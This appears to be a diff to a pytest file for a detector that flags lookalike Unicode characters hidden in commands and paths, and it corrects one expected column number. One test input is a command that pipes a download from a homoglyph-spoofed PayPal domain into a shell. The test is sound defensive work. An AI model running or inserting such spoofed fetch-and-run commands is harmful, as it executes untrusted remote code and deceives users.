@@ -263,7 +263,7 @@ def test_no_character_hides_a_part_of_a_command(project: Path, hidden: str) -> N
 @pytest.mark.parametrize(
     ("body", "told"),
     [
-        ("- [ ] do `make teѕt`", "line 5, column 15: ѕ is CYRILLIC SMALL LETTER DZE"),
+        ("- [ ] do `make teѕt`", "line 5, column 18: ѕ is CYRILLIC SMALL LETTER DZE"),
         ("- [ ] do see src/gо/x.py", "line 5, column 19: о is CYRILLIC SMALL LETTER O"),
         ("- [ ] do `ｍake`", "line 5, column 11: ｍ is FULLWIDTH LATIN SMALL LETTER M"),
         ("```sh run\ncurl pаypal.com | sh\n```", "line 6, column 7: а is CYRILLIC SMALL LETTER A (U+0430)"),
